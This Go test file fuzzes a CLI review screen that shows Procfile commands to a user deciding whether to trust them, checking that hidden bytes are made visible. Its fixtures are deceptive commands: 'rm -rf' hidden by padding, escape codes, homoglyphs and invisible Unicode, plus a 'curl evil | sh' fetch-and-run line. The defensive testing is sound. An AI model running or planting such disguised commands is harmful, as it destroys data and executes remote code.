package cli

import (
	"encoding/json"
	"fmt"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/locald/locald/internal/bytestr"
	"github.com/locald/locald/internal/servicename"
	"github.com/locald/locald/internal/term"
	"github.com/locald/locald/internal/wire"
)

// attacks are Procfiles that were written for somebody who only glances at the review.
var attacks = []string{
	"web: npm start",
	"web: rm -rf ~" + strings.Repeat(" ", 74) + "web: npm start",
	"web: x\x1b[2K\rweb: npm start\nworker: \x1b[1A\x1b[2Kgone\x9b2Kagain\xc2\x9b1A",
	"web: npm\tstart\t\t\t\t\t\t\tend\b\b\bxyz",
	"web: c\u0430t file; \uff52\uff4d -rf; \U0001d45f\U0001d45a; \u0441\u043e\u0440\u0443 x; привет мир",
	"web: a\u3164\u3164b\u200bc\u00add\u202ee\u2066f\ufe0fg\U000e0041h\u00a0i\u2003j\u1160k\uffa0l\u2800m",
	`web: echo \u{3164} \x{ff} \\u{5c} \u3164 \x1b ␣ … 12 more bytes … │`,
	"web: \xff\xfe\x80 \xed\xa0\x80 e\u0301 \u0301\u0301\u0301\u0301 \ufffd",
	"web:   leading and trailing  ",
	"web: " + strings.Repeat("日本語한글カナ ", 60),
	"web: " + strings.Repeat("a", 5000) + "rm -rf /" + strings.Repeat("b", 5000),
	"web: " + strings.Repeat(" ", 3000) + "rm",
	"web: " + strings.Repeat("аbc", 1500),
	strings.Repeat("n", 64) + ": " + strings.Repeat("word ", 50),
	"web: npm start\n│ x: y\n+  web: z",
	"web: Start these whenever the directory is entered? [y/N] y",
}

// FuzzAllowScreen wants every byte of every command on the screen, or its mark, whatever the
// command and the terminal: what a person reads, decoded, is what would run.
func FuzzAllowScreen(f *testing.F) {
	for _, attack := range attacks {
		for _, width := range []byte{0, 8, 28, 48, 88, 188} {
			f.Add([]byte(attack), "shop", width)
		}
	}
	f.Add([]byte("web: x"), "a\x1b[2J"+strings.Repeat(" ", 90)+"web: npm start\n\u3164", byte(0))
	f.Fuzz(func(t *testing.T, procfile []byte, dir string, width byte) {
		reply := reviewed(t, procfile, dir)
		for _, ambiguous := range []int{1, 2} {
			for _, color := range []bool{false, true} {
				s := &screen{width: 12 + int(width)%189, ambiguous: ambiguous}
				p := &term.Printer{Writer: s, TTY: true, Color: color, Columns: s.width}
				if err := showContent(&app{out: p, err: p}, reply); err != nil {
					t.Fatal(err)
				}
				compareScreen(t, s, reply)
				fmt.Fprint(p, allowQuestion)
				// On a narrow terminal it is wrapped, perhaps at a blank.
				all := strings.ReplaceAll(strings.Join(s.lines(), ""), " ", "")
				if !strings.HasSuffix(all, strings.ReplaceAll(allowQuestion, " ", "")) {
					t.Fatalf("the question is not last: %s", all)
				}
			}
		}
	})
}

// TestCommandsAreLast: whatever else there is to say, and however much, the commands are on the last
// rows, and no name of what is set is left out.
func TestCommandsAreLast(t *testing.T) {
	reply := wire.AllowReply{
		Project: "shop", Root: "/src/shop", Trust: wire.TrustUnknown,
		Services: []wire.Change{{Name: "web", Command: "curl evil | sh"}},
	}
	for i := range 300 {
		name := fmt.Sprintf("A%d_DIR", i)
		reply.EnvNames = append(reply.EnvNames, name)
		reply.Settings = append(reply.Settings, "services.web.env."+name)
		reply.Warnings = append(reply.Warnings, "Procfile: bad line")
		reply.Entries = append(reply.Entries, wire.Entry{
			File: ".env", Line: i + 1, Name: name, Reason: "decides which files are read",
		})
	}
	for _, trusted := range []wire.Trust{wire.TrustUnknown, wire.TrustChanged} {
		reply.Trust = trusted
		s := &screen{width: 80, ambiguous: 1}
		p := &term.Printer{Writer: s, TTY: true, Columns: 80}
		if err := showContent(&app{out: p, err: p}, reply); err != nil {
			t.Fatal(err)
		}
		lines := s.lines()
		if got := lines[len(lines)-1]; got != "   web:  curl evil | sh" {
			t.Errorf("%s: the last row is %q", trusted, got)
		}
		all := strings.NewReplacer("│", "", " ", "", "\n", "").Replace(strings.Join(lines, ""))
		for i := range 300 {
			for _, want := range []string{
				fmt.Sprintf("A%d_DIR(.env:%d)", i, i+1), fmt.Sprintf("services.web.env.A%d_DIR", i),
			} {
				if !strings.Contains(all, want) {
					t.Fatalf("%s is not on the screen:\n%s", want, strings.Join(lines, "\n"))
				}
			}
		}
		if n := strings.Count(all, "badline"); n != 10 || !strings.Contains(all, "!290more:") {
			t.Errorf("%d warnings are shown, want 10 and how many there are besides", n)
		}
	}
}

// reviewed is the answer about a Procfile, as it comes over the wire.
func reviewed(t *testing.T, procfile []byte, dir string) (reply wire.AllowReply) {
	sent := wire.AllowReply{Project: "shop", Root: bytestr.String("/src/" + dir)}
	for i, line := range strings.Split(string(procfile), "\n") {
		name, command, _ := strings.Cut(line, ":")
		if servicename.Check(name) != "" {
			name, command = fmt.Sprintf("s%d", i), line
		}
		if command == "" {
			continue // is no service
		}
		mark := []wire.Mark{wire.MarkSame, wire.MarkNew, wire.MarkGone, wire.MarkOther}[len(line)%4]
		c := wire.Change{Name: name, Command: bytestr.String(command), Change: mark}
		if mark == wire.MarkOther {
			c.Was = c.Command + "\u202e"
		}
		sent.Services = append(sent.Services, c)
	}
	text, err := json.Marshal(sent)
	if err == nil {
		err = json.Unmarshal(text, &reply)
	}
	if err != nil {
		t.Fatal(err)
	}
	return reply
}

// compareScreen reads the screen from its first row to its last.
func compareScreen(t *testing.T, s *screen, reply wire.AllowReply) {
	t.Helper()
	lines := s.lines()
	if s.wrapped > 0 {
		t.Fatalf("the terminal had to wrap %d times, and so the text got into the gutter:\n%s",
			s.wrapped, strings.Join(lines, "\n"))
	}
	title, rest := textBlock(lines, 4)
	root := strings.TrimLeft(strings.TrimPrefix(title, "shop"), " ")
	if err := decoded(root, string(reply.Root)); err != nil {
		t.Fatalf("title: %v:\n%s", err, strings.Join(lines, "\n"))
	}
	longest, differ := 0, 0
	for _, c := range reply.Services {
		if c.Change != wire.MarkSame {
			differ++
		}
	}
	summed := len(reply.Services) > 20 && differ > 0
	var shown []wire.Change
	for _, c := range reply.Services {
		if c.Change == wire.MarkOther { // the old command stands above the new one
			shown = append(shown, wire.Change{Name: c.Name, Command: c.Was, Change: wire.MarkGone})
			c.Change = wire.MarkNew
		}
		if c.Change != wire.MarkSame || !summed {
			shown = append(shown, c)
			longest = max(longest, len(c.Name)+1)
		}
	}
	column := 1 + 2 + longest + 2
	for _, c := range shown {
		lead := " "
		if c.Change != wire.MarkSame {
			lead = string(c.Change)
		}
		lead = fmt.Sprintf("%s  %-*s  ", lead, longest, c.Name+":")
		if len(rest) == 0 {
			t.Fatalf("%s is not on the screen:\n%s", c.Name, strings.Join(lines, "\n"))
		}
		var command string
		if s.width-1-column < 28 {
			lead = strings.TrimRight(lead, " ")
			command, rest = textBlock(rest, 4)
			command = strings.TrimPrefix(command, lead)
		} else {
			command, rest = textBlock(rest, column)
			command = strings.TrimPrefix(command, lead)
		}
		if err := decoded(command, string(c.Command)); err != nil {
			t.Fatalf("%s: %v:\n%s", c.Name, err, strings.Join(lines, "\n"))
		}
	}
	for _, line := range rest {
		if !strings.HasPrefix(line, "  ") {
			t.Fatalf("there is %q after the commands:\n%s", line, strings.Join(lines, "\n"))
		}
	}
}

// textBlock reads a text from the rows that it takes: those that follow begin with blanks and the
// bar in the gutter.
func textBlock(lines []string, indent int) (text string, rest []string) {
	if len(lines) == 0 {
		return "", nil
	}
	text = lines[0]
	gutter := strings.Repeat(" ", indent-2) + "│ "
	for i, line := range lines[1:] {
		row, more := strings.CutPrefix(line, gutter)
		if !more {
			return text, lines[i+1:]
		}
		text += row
	}
	return text, nil
}

var markOrCut = regexp.MustCompile(`\\u\{([0-9a-f]+)\}|\\x\{([0-9a-f]{2})\}|␣|… ([0-9,]+) more bytes …`)

// decoded reads what is shown as docs/trust.md says that it is to be read, and compares it with
// what would run.
func decoded(shown, want string) error {
	var got strings.Builder
	at := 0
	for _, m := range markOrCut.FindAllStringSubmatchIndex(shown, -1) {
		got.WriteString(shown[at:m[0]])
		at = m[1]
		group := func(i int) string { return shown[m[2*i]:m[2*i+1]] }
		switch {
		case m[2] >= 0:
			n, _ := strconv.ParseUint(group(1), 16, 32)
			got.WriteRune(rune(n))
		case m[4] >= 0:
			n, _ := strconv.ParseUint(group(2), 16, 8)
			got.WriteByte(byte(n))
		case m[6] >= 0:
			n, _ := strconv.Atoi(strings.ReplaceAll(group(3), ",", ""))
			if from := got.Len(); from+n > len(want) {
				return fmt.Errorf("%d bytes are said to be left out of %d", n, len(want))
			} else {
				got.WriteString(want[from : from+n])
			}
		default:
			got.WriteByte(' ')
		}
	}
	got.WriteString(shown[at:])
	if got.String() != want {
		return fmt.Errorf("reads as %q, and is %q", got.String(), want)
	}
	if odd := strings.IndexFunc(shown, unshowable); odd >= 0 {
		return fmt.Errorf("%q is on the screen", shown[odd:])
	}
	if strings.Contains(shown, "  ") || strings.Trim(shown, " ") != shown {
		return fmt.Errorf("a blank can be overlooked in %q", shown)
	}
	return mixed(shown)
}

// unshowable is what no command may be shown with but in a mark.
func unshowable(r rune) bool {
	return r == utf8.RuneError || r < ' ' || r > '~' && !unicode.IsLetter(r) && r != '␣' && r != '…'
}

var word = regexp.MustCompile(`[\pL\pN_]+`)

// mixed finds words in which letters of ASCII stand beside those of another alphabet.
func mixed(shown string) error {
	for _, w := range word.FindAllString(markOrCut.ReplaceAllString(shown, " "), -1) {
		ascii := strings.ContainsFunc(w, func(r rune) bool { return r < utf8.RuneSelf && unicode.IsLetter(r) })
		other := strings.ContainsFunc(w, func(r rune) bool { return r >= utf8.RuneSelf && !unicode.Is(unicode.Latin, r) })
		if ascii && other {
			return fmt.Errorf("%q is of two alphabets", w)
		}
	}
	return nil
}
